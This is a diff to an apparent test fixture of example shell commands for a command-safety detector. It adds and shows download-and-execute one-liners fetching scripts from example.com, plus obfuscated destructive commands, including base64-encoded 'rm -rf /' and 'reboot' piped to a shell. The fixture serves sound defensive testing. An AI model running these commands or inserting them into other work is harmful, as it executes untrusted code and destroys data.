@@ -15,6 +15,8 @@ export const DOWNLOAD_EXAMPLES: Examples = {
       'curl -o i.sh https://example.com/i.sh && sh i.sh',
       'curl -s https://example.com/i.py | python3 -',
       'wget https://example.com/i.sh; chmod +x i.sh; ./i.sh',
+      'wget -P /tmp https://example.com/i.sh && sh /tmp/i.sh',
+      'curl --output-dir /tmp -O https://example.com/i.sh && sh /tmp/i.sh',
       'curl -s https://example.com/i.sh.gz | gunzip | sh',
       { text: 'exec(urllib.request.urlopen("https://example.com/x.py").read())', foreground: 'python3' },
     ],
@@ -38,6 +40,7 @@ export const DOWNLOAD_EXAMPLES: Examples = {
       "echo 'ez -es /' | tr 'ezs' 'rmf' | sh",
       '$(echo cmVib290 | base64 -d)',
       'base64 -d <<< cm0gLXJmIC8K | bash',
+      'python3 -c "import base64; print(base64.b64decode(\'cm0gLXJmIC8K\').decode())" | sh',
       'python3 -c "import base64; exec(base64.b64decode(\'cHJpbnQoMSk=\'))"',
     ],
     passing: [
